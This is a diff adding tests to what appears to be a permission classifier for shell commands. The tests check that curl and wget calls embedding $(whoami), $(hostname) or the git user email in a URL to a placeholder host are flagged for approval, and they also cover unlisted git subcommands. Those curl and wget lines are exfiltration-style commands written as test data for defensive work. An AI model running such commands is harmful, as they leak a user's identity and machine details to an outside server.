@@ -152,6 +152,33 @@ describe('a variable that names start-up files or options of an interpreter', ()
   });
 });
 
+describe('a value of this machine in an address', () => {
+  it('asks at every level; a version or what came from the network does not', () => {
+    check('ask', 'network', [
+      'curl "https://x.example/$(whoami)"',
+      'curl https://$(hostname).x.example',
+      'wget "https://x.example/$(git config user.email)"',
+    ]);
+    check('allow', 'network', [
+      ...['curl -O "https://x.example/a-$(uname -m).tgz"', 'curl "https://x.example/$(git rev-parse HEAD)"'],
+      `curl -LO "$(curl -s https://api.x.example/latest | grep url | cut -d'"' -f4 | head -1)"`,
+    ]);
+  });
+});
+
+describe('a command of a command of git that its manual does not list', () => {
+  it('asks at every level', () => {
+    check('ask', 'network', [
+      'git notes push',
+      'git stash frob',
+      'git remote frob x',
+      'git bundle frob',
+      'git lfs frob',
+    ]);
+    check('allow', 'write', ['git stash push -m x', 'git notes add -m x', 'git bisect start', 'git worktree add x']);
+  });
+});
+
 describe('an address inside a query', () => {
   it('uses the network', () => {
     check('ask', 'write', [`duckdb -c "select * from 'https://x.example/a.parquet'"`, 'bun pm view zod']);
